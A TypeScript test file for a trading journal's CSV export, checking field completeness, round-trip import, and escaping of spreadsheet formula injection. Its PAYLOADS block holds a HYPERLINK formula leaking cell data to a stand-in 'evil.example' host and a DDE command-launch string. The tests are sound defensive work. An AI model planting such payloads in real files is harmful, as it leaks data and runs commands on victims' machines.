import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { AccountJson, ExecutionInput, TradeDetailJson, TradeListJson } from '../../../contracts/trades';
import { executions, trades } from '../../db/schema';
import { createUser } from '../users';
import { TestClient } from '../../../../test/helpers/http-client';
import { startTestApp, type TestApp } from '../../../../test/helpers/test-app';
import { EDGEBOOK_CSV_COLUMNS } from './csv-export';
import { toExportedFingerprint } from './execution-input';
import { toDecimalText } from './trade-json';

const PASSWORD = 'long-enough-password';
type CsvRow = Record<(typeof EDGEBOOK_CSV_COLUMNS)[number], string>;
let t: TestApp;
let c: TestClient;
let userId: string;
let account: AccountJson;

const at = (minutes: number) => new Date(Date.UTC(2024, 10, 4, 15, 0) + minutes * 60_000).toISOString();

/** RFC 4180 reader, independent of the writer: quoted fields, doubled quotes, CRLF or LF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let inQuotes = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (inQuotes) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') inQuotes = false;
      else field += ch;
    } else if (ch === '"') inQuotes = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\n' || ch === '\r') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      record.push(field);
      records.push(record);
      record = [];
      field = '';
    } else field += ch;
  }
  if (field !== '' || record.length > 0) records.push([...record, field]);
  return records;
}

const fills: ExecutionInput[] = [
  // A scale-out with commissions and a broker id.
  { executedAt: at(0), symbol: 'AAPL', side: 'buy', quantity: '100', price: '10', commission: '1', brokerExecId: 'A1' },
  { executedAt: at(5), symbol: 'AAPL', side: 'sell', quantity: '40', price: '11', commission: '1', brokerExecId: 'A2' },
  { executedAt: at(9), symbol: 'AAPL', side: 'sell', quantity: '60', price: '12', commission: '1', brokerExecId: 'A3' },
  // A flip: the crossing fill is listed once, under the short it opens.
  { executedAt: at(20), symbol: 'AAPL', side: 'buy', quantity: '10', price: '10' },
  { executedAt: at(21), symbol: 'AAPL', side: 'sell', quantity: '25', price: '10.5', fees: '0.03' },
  { executedAt: at(22), symbol: 'AAPL', side: 'buy', quantity: '15', price: '10.25' },
  // Two identical partial fills in one second, an option, a future, crypto, and an open position.
  { executedAt: at(30), symbol: 'MSFT', side: 'buy', quantity: '5', price: '400' },
  { executedAt: at(30), symbol: 'MSFT', side: 'buy', quantity: '5', price: '400' },
  { executedAt: at(31), symbol: 'MSFT', side: 'sell', quantity: '10', price: '401.5' },
  { executedAt: at(40), symbol: 'SPY 241115P00580000', side: 'buy', quantity: '3', price: '2.15', fees: '1.95' },
  { executedAt: at(45), symbol: 'SPY 241115P00580000', side: 'sell', quantity: '3', price: '1.05', fees: '1.95' },
  { executedAt: at(50), symbol: 'MESZ4', side: 'buy', quantity: '4', price: '5800.25', commission: '2.48' },
  { executedAt: at(55), symbol: 'MESZ4', side: 'sell', quantity: '4', price: '5801', commission: '2.48' },
  { executedAt: at(60), symbol: 'BTC-USD', side: 'buy', quantity: '0.00012345', price: '68000.5' },
  { executedAt: at(61), symbol: 'BTC-USD', side: 'sell', quantity: '0.00012345', price: '68100' },
  { executedAt: at(70), symbol: 'NVDA', side: 'buy', quantity: '7', price: '140.33' },
];

beforeAll(async () => {
  t = await startTestApp({ env: { LOGIN_RATE_LIMIT: '1000' } });
  userId = (
    await createUser(t.database.db, { email: 'csv@example.com', password: PASSWORD, isVerified: true, now: new Date() })
  ).id;
  c = new TestClient(t.url(''));
  await c.login('csv@example.com', PASSWORD);
  account = await c.json<AccountJson>(c.post('/api/accounts', { name: 'Main, "margin"' }));
  expect((await c.post('/api/executions', { accountId: account.id, executions: fills })).status).toBe(200);
  const manual = await c.post('/api/trades', {
    accountId: account.id,
    symbol: 'TSLA',
    direction: 'short',
    quantity: '3',
    entryPrice: '250',
    entryAt: at(80),
    exitPrice: '244.5',
    exitAt: at(95),
    fees: '1',
    stopPrice: '255',
  });
  expect(manual.status).toBe(201);

  const tag = await c.json<{ id: string }>(c.post('/api/tags', { name: 'A+, "clean"' }));
  const other = await c.json<{ id: string }>(c.post('/api/tags', { name: 'FOMO' }));
  const strategy = await c.json<{ id: string }>(c.post('/api/strategies', { name: 'Opening range' }));
  const list = await c.json<TradeListJson>(c.get('/api/trades?sort=openedAt&order=asc'));
  const [first, , , , options] = list.trades;
  await c.request('PATCH', `/api/trades/${first!.id}`, {
    stopPrice: '9.5',
    targetPrice: '12.5',
    strategyId: strategy.id,
    tags: [tag.id, other.id],
    mistakes: ['Sized up, "too" much'],
    emotions: ['Calm'],
    rating: 5,
    notes: '## Plan\n- buy the dip, sell the rip\r\n- "patience"',
  });
  await c.request('PATCH', `/api/trades/${options!.id}`, { initialRisk: '300', notes: 'Lost the premium' });
});
afterAll(() => t.close());

describe('GET /api/trades/export.csv', () => {
  it('writes every execution once with every field, and each trade’s journal on its first row', async () => {
    const res = await c.get('/api/trades/export.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/attachment; filename="edgebook-trades-/);
    const [header, ...records] = parseCsv(await res.text());
    expect(header).toEqual([...EDGEBOOK_CSV_COLUMNS]);
    // Every column is filled in from the record, so the object has every key of CsvRow.
    const csv = records.map(
      (r) => Object.fromEntries(EDGEBOOK_CSV_COLUMNS.map((col, i) => [col, r[i] ?? '<missing>'])) as CsvRow,
    );

    const stored = await t.database.db.select().from(executions).where(eq(executions.userId, userId));
    expect(csv).toHaveLength(stored.length);
    expect(new Set(csv.map((row) => row.fingerprint)).size).toBe(stored.length);
    for (const fill of stored) {
      const row = csv.find((r) => r.fingerprint === toExportedFingerprint(fill.fingerprint))!;
      expect(row).toMatchObject({
        account: 'Main, "margin"',
        executed_at: fill.executedAt.toISOString(),
        symbol: fill.symbol,
        asset_class: fill.assetClass,
        side: fill.side,
        quantity: toDecimalText(fill.quantity),
        price: toDecimalText(fill.price),
        commission: toDecimalText(fill.commission),
        fees: toDecimalText(fill.fees),
        multiplier: toDecimalText(fill.multiplier),
        currency: fill.currency,
        broker_exec_id: fill.brokerExecId ?? '',
      });
    }

    const tradeRows = await t.database.db.select().from(trades).where(eq(trades.userId, userId));
    const detail = async (id: string) => c.json<TradeDetailJson>(c.get(`/api/trades/${id}`));
    for (const trade of tradeRows) {
      const own = csv.filter((row) => row.trade_id === trade.id);
      const opener = stored.find((fill) => fill.id === trade.openingExecutionId)!;
      expect(own[0]!.fingerprint).toBe(toExportedFingerprint(opener.fingerprint));
      const json = await detail(trade.id);
      expect(own[0]).toMatchObject({
        stop_price: json.stopPrice ?? '',
        target_price: json.targetPrice ?? '',
        risk_amount: json.riskAmount ?? '',
        tags: JSON.stringify(json.tags.map((tag) => tag.name)),
        mistakes: JSON.stringify(json.mistakes),
        emotions: JSON.stringify(json.emotions),
        rating: json.rating === null ? '' : String(json.rating),
        notes: json.notes,
      });
      for (const row of own.slice(1)) expect(row.notes + row.tags + row.stop_price + row.rating).toBe('');
    }
    const first = csv.find((row) => row.broker_exec_id === 'A1')!;
    expect(first).toMatchObject({
      strategy: 'Opening range',
      tags: JSON.stringify(['A+, "clean"', 'FOMO']),
      notes: '## Plan\n- buy the dip, sell the rip\r\n- "patience"',
      rating: '5',
    });
    expect(csv.find((row) => row.symbol.startsWith('SPY'))).toMatchObject({ risk_amount: '300', multiplier: '100' });
    expect(csv.find((row) => row.symbol === 'BTC/USD')).toMatchObject({
      quantity: '0.00012345',
      asset_class: 'crypto',
    });
  });

  it('reads back into the same trades: its rows, in file order, rebuild every trade exactly', async () => {
    const [, ...records] = parseCsv(await (await c.get('/api/trades/export.csv')).text());
    const col = (name: (typeof EDGEBOOK_CSV_COLUMNS)[number]) => EDGEBOOK_CSV_COLUMNS.indexOf(name);
    const copy = await c.json<AccountJson>(c.post('/api/accounts', { name: 'Copy' }));
    const res = await c.post('/api/executions', {
      accountId: copy.id,
      executions: records.map((r) => ({
        executedAt: r[col('executed_at')],
        symbol: r[col('symbol')],
        assetClass: r[col('asset_class')],
        side: r[col('side')],
        quantity: r[col('quantity')],
        price: r[col('price')],
        commission: r[col('commission')],
        fees: r[col('fees')],
        multiplier: r[col('multiplier')],
        currency: r[col('currency')],
        ...(r[col('broker_exec_id')] ? { brokerExecId: r[col('broker_exec_id')] } : {}),
      })),
    });
    expect(res.status).toBe(200);
    const derived = (list: TradeListJson) =>
      list.trades.map((tr) => ({
        symbol: tr.symbol,
        assetClass: tr.assetClass,
        direction: tr.direction,
        status: tr.status,
        openedAt: tr.openedAt,
        closedAt: tr.closedAt,
        quantity: tr.quantity,
        avgEntryPrice: tr.avgEntryPrice,
        avgExitPrice: tr.avgExitPrice,
        grossPnl: tr.grossPnl,
        commission: tr.commission,
        fees: tr.fees,
        netPnl: tr.netPnl,
        multiplier: tr.multiplier,
        currency: tr.currency,
        executionCount: tr.executionCount,
      }));
    const original = await c.json<TradeListJson>(c.get(`/api/trades?accountId=${account.id}&sort=openedAt&order=asc`));
    const rebuilt = await c.json<TradeListJson>(c.get(`/api/trades?accountId=${copy.id}&sort=openedAt&order=asc`));
    expect(original.trades.length).toBe(9);
    expect(derived(rebuilt)).toEqual(derived(original));
  });
});

describe('GET /api/trades/export.csv, with text a spreadsheet would run', () => {
  const PAYLOADS = {
    account: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    brokerExecId: '@SUM(A1:A9)',
    strategy: '=1+2',
    tag: "+cmd|'/C calc'!A0",
    notes: '-2+3 and a second line\nthat stays',
  };

  async function signInAs(email: string): Promise<TestClient> {
    await createUser(t.database.db, { email, password: PASSWORD, isVerified: true, now: new Date() });
    const client = new TestClient(t.url(''));
    await client.login(email, PASSWORD);
    return client;
  }

  /** The export's records by column name. */
  async function exportOf(client: TestClient): Promise<CsvRow[]> {
    const [, ...records] = parseCsv(await (await client.get('/api/trades/export.csv')).text());
    // Every column is filled in from the record, so the object has every key of CsvRow.
    return records.map((r) => Object.fromEntries(EDGEBOOK_CSV_COLUMNS.map((col, i) => [col, r[i] ?? ''])) as CsvRow);
  }

  it('writes names, ids, strategies, tags and notes with a leading quote, numbers as numbers, and imports them back as they were', async () => {
    const author = await signInAs('formulas@example.com');
    const own = await author.json<AccountJson>(author.post('/api/accounts', { name: PAYLOADS.account }));
    const added = await author.post('/api/executions', {
      accountId: own.id,
      executions: [
        { executedAt: at(0), symbol: 'AAPL', side: 'buy', quantity: '10', price: '101.25', brokerExecId: '=1+2' },
        { executedAt: at(5), symbol: 'AAPL', side: 'sell', quantity: '10', price: '100', brokerExecId: '@SUM(A1:A9)' },
      ],
    });
    expect(added.status).toBe(200);
    const [trade] = (await author.json<TradeListJson>(author.get('/api/trades'))).trades;
    const strategy = await author.json<{ id: string }>(author.post('/api/strategies', { name: PAYLOADS.strategy }));
    const tag = await author.json<{ id: string }>(author.post('/api/tags', { name: PAYLOADS.tag }));
    const patched = await author.request('PATCH', `/api/trades/${trade!.id}`, {
      strategyId: strategy.id,
      tags: [tag.id],
      notes: PAYLOADS.notes,
      stopPrice: '99.5',
    });
    expect(patched.status).toBe(200);
    expect(trade!.netPnl).toBe('-12.5');

    const [opener, closer] = await exportOf(author);
    expect(opener).toMatchObject({
      account: `'${PAYLOADS.account}`,
      broker_exec_id: "'=1+2",
      strategy: "'=1+2",
      tags: JSON.stringify([PAYLOADS.tag]),
      notes: `'${PAYLOADS.notes}`,
      quantity: '10',
      price: '101.25',
      stop_price: '99.5',
    });
    expect(closer).toMatchObject({ broker_exec_id: "'@SUM(A1:A9)", price: '100', notes: '' });
    const cells = [opener!, closer!].flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const reader = await signInAs('formulas-reader@example.com');
    const into = await reader.json<AccountJson>(reader.post('/api/accounts', { name: 'Copy' }));
    const form = new FormData();
    form.append('accountId', into.id);
    form.append('file', new Blob([await (await author.get('/api/trades/export.csv')).text()]), 'export.csv');
    const upload = await fetch(t.url('/api/imports'), {
      method: 'POST',
      headers: { origin: 'http://localhost:3000', cookie: reader.cookie ?? '' },
      body: form,
    });
    expect(upload.status).toBe(201);
    const { id } = (await upload.json()) as { id: string };
    expect((await reader.post(`/api/imports/${id}/commit`, { accountId: into.id })).status).toBe(200);
    const [copiedOpener, copiedCloser] = await exportOf(reader);
    const journal = (row: CsvRow | undefined) => [row?.broker_exec_id, row?.strategy, row?.tags, row?.notes];
    expect(journal(copiedOpener)).toEqual(journal(opener));
    expect(journal(copiedCloser)).toEqual(journal(closer));
    const [copied] = (await reader.json<TradeListJson>(reader.get('/api/trades'))).trades;
    expect(copied!.netPnl).toBe('-12.5');
  });
});
